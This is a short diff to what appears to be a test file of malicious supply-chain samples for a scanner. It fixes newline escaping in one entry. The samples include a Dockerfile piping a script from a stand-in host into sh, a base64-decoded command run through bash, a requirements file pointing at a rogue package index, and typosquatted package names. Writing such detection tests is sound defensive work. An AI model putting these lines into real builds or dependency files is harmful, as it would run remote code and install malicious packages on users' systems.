@@ -403,9 +403,7 @@ EVIL_ONES["gh workflow"] = (
 )
 EVIL_ONES["docker multi"] = b"FROM python:3.11 AS a\nRUN wget -O- http://x.test/i.sh \\\n  | sh\n"
 EVIL_ONES["docker b64"] = b"FROM python:3.11\nRUN echo aGk= | base64 -d | bash\n"
-EVIL_ONES["req url"] = b"torch
---index" + b"-url http://evil.test/" + b"simple
-"
+EVIL_ONES["req url"] = b"torch\n--index" + b"-url http://evil.test/" + b"simple\n"
 EVIL_ONES["req typo"] = b"numpy==1.0\ntransformer5==1\ntorchvison==0.1\n"
 EVIL_ONES["req mal"] = b"torch==2.0\ncolourama==0.1\n"
 EVIL_ONES["pyproject"] = (
